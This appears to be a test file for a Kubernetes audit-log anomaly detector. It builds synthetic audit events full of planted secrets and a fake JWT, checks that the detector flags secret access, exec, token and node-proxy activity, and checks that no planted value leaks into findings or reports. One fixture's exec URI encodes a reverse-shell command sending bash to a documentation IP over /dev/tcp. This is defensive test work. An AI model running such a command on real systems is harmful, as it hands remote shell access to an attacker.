import { expect } from 'chai';
import { AuditQueue } from '../../operator/audit/receiving/audit-queue.ts';
import { RequestActivities } from '../../operator/anomalies/activity/request-activity.ts';
import { createDetector } from '../../operator/anomalies/detector.ts';
import { anomalyEvent } from '../../operator/anomalies/reporting/anomaly-event.ts';
import { anomalyReports } from '../../operator/anomalies/results/report-content.ts';
import { anomalySettings } from '../../operator/engine/controls/detection-settings.ts';
import { auditJson } from '../audit/sample-events.ts';
import { day, minute } from './world.ts';

const start = Date.UTC(2026, 10, 2, 9);
/** What must not be kept anywhere. */
const planted = 'PLANTED';
const jwt = `eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ${planted}.c2lnbmF0dXJl`;
const settings = anomalySettings({ anomalies: {} });

/** An audit event with bodies, tokens and commands wherever somebody can put them. */
const event = (index: number, changes: Record<string, unknown>): Record<string, unknown> => {
  const time = new Date(start + index * 1000).toISOString();
  return auditJson({
    auditID: `audit-${index}`,
    level: 'RequestResponse',
    requestObject: { data: { password: planted }, spec: { token: planted } },
    responseObject: { kind: 'Secret', data: { password: planted }, status: { token: planted } },
    responseStatus: { code: 200, message: planted, details: { name: planted } },
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    userAgent: `curl/8 (${jwt})`,
    user: {
      username: 'eve',
      groups: ['developers'],
      extra: { 'example.com/token': [planted], 'authentication.kubernetes.io/credential-id': [jwt] },
    },
    annotations: {
      'authorization.k8s.io/decision': 'allow',
      'authorization.k8s.io/reason': `RBAC: allowed by ClusterRoleBinding "a" of ClusterRole "b" to User "${jwt}"`,
      'example.com/body': planted,
    },
    ...changes,
  });
};
const pod = { resource: 'pods', namespace: 'shop', name: 'cart-1', apiVersion: 'v1', subresource: 'exec' };
const requests: readonly Record<string, unknown>[] = [
  { requestURI: `/api/v1/namespaces/shop/secrets/db?token=${planted}&pretty=${planted}` },
  ...Array.from({ length: 15 }, (_, index) => ({
    objectRef: { resource: 'secrets', namespace: 'shop', name: `s${index}`, apiVersion: 'v1' },
    requestURI: `/api/v1/namespaces/shop/secrets/s${index}`,
  })),
  { verb: 'list', objectRef: { resource: 'secrets', apiVersion: 'v1' }, requestURI: `/api/v1/secrets?continue=${planted}` },
  {
    verb: 'create',
    stage: 'ResponseStarted',
    objectRef: pod,
    requestURI: `/api/v1/namespaces/shop/pods/cart-1/exec?command=bash&command=-c&command=${encodeURIComponent(`bash -i >& /dev/tcp/203.0.113.9/443 # ${planted}`)}`,
  },
  {
    verb: 'create',
    objectRef: { resource: 'serviceaccounts', namespace: 'shop', name: 'cart', apiVersion: 'v1', subresource: 'token' },
    requestURI: '/api/v1/namespaces/shop/serviceaccounts/cart/token',
    requestObject: { spec: { expirationSeconds: 172_800, audiences: [], note: planted }, status: { token: planted } },
  },
  {
    verb: 'get',
    objectRef: { resource: 'nodes', name: 'worker-1', apiVersion: 'v1', subresource: 'proxy' },
    requestURI: `/api/v1/nodes/worker-1/proxy/run/shop/cart/cart?cmd=cat&body=${planted}`,
  },
];

describe('what is kept of audit events', () => {
  it('has no body, token or command', () => {
    const detector = createDetector({ learningPeriod: 0, keepFor: 7 * day });
    const activities = new RequestActivities();
    const told: string[] = [];
    const queue = new AuditQueue({
      now: () => start + minute,
      observer: { received: () => undefined, dropped: () => undefined, problem: (...problem) => void told.push(problem.join(' ')) },
      consume: (events) => {
        for (const each of events) {
          const activity = activities.activity(each);
          if (activity) detector.observe(activity);
        }
      },
    });
    const offer = (text: string): void => queue.offer({ bytes: Buffer.from(text), server: 'a' });
    const items = requests.map((changes, index) => event(index, changes));
    offer(JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items }));
    for (const broken of [
      JSON.stringify(items.slice(0, 3)).slice(0, -20),
      JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1beta1', items }),
      JSON.stringify(event(90, { stage: planted, verb: { planted } })),
      JSON.stringify(event(91, { stageTimestamp: new Date(start + day).toISOString() })),
      `{"message":"${planted}"}`,
    ])
      offer(broken);
    queue.stop();
    detector.tick(start + minute);
    const findings = detector.findings();
    expect(findings.map(({ detection }) => detection)).to.include.members([
      'secret-spread',
      'suspicious-exec',
      'token-request',
      'node-proxy',
      'cluster-wide-secret-list',
    ]);
    expect(told.length).to.be.greaterThan(3);
    const reports = anomalyReports(findings, [{ name: 'p', settings: settings ?? expect.fail('no settings'), includes: () => true }]);
    expect(reports.length).to.be.greaterThan(0);
    const kept = JSON.stringify([
      findings,
      findings.map(anomalyEvent),
      reports,
      detector.save(start + minute),
      detector.status(start + minute),
      told,
    ]);
    const places = [...kept.matchAll(new RegExp(`.{0,80}${planted}.{0,20}`, 'gi'))].map(([place]) => place);
    expect(places).to.deep.equal([]);
  });
});
